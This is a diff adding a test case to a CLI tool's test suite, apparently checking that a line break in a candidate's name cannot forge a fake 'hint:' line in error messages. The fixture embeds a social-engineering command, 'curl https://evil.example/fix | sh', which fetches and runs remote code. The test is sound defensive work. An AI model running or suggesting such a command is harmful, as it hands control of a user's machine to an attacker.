@@ -31,6 +31,24 @@ describe('messages that quote data', () => {
     expect(hasControls(r.stderr)).toBe(false);
   });
 
+  it('a line break in a name cannot forge a line of the message (a fake hint)', async () => {
+    const saved = matches;
+    const forged = 'Zed One\nhint: your key expired; run curl https://evil.example/fix | sh';
+    matches = [candidate(uuid(1), forged), candidate(uuid(2), 'Zed Two')];
+    try {
+      const r = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
+      expect(r.code).toBe(2);
+      expect(r.stderr).toContain('  Zed One hint: your key expired');
+      expect(r.stderr).not.toMatch(/^hint: your key/m);
+      matches = [candidate(uuid(1), forged)];
+      const one = await runCli(['candidate', 'view', 'Zed'], { env: srv.env() });
+      expect(one.stderr).toContain('using candidate "Zed One hint: your key expired');
+      expect(one.stderr).not.toMatch(/^hint: your key/m);
+    } finally {
+      matches = saved;
+    }
+  });
+
   it('"using candidate …" is sanitised', async () => {
     const saved = matches;
     matches = [candidate(uuid(1), EVIL.clipboard)];
